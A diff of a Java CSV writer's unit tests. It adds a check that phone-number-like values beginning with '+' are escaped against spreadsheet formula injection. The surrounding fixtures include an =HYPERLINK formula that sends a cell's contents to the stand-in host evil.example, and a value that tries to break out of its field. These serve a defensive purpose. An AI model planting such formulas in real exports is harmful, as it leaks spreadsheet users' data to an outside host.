@@ -30,6 +30,12 @@ class CsvTest {
                 .isEqualTo("\"a\",\"\",\"say \"\"hi\"\"\"\r\n");
     }
 
+    @Test
+    void aTelephoneNumberIsNoFormula() {
+        assertThat(Csv.line(List.of("+390255512345", "+39 02", "+1+1", "+39\n")))
+                .isEqualTo("\"+390255512345\",\"'+39 02\",\"'+1+1\",\"'+39\n\"\r\n");
+    }
+
     static Stream<String> values() {
         Stream<String> first =
                 Stream.of(
@@ -49,6 +55,7 @@ class CsvTest {
                         "",
                         " ",
                         "+39 02 5551234",
+                        "'+390255512345",
                         "-12",
                         "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
                         "=1+1\",\"=2+2",
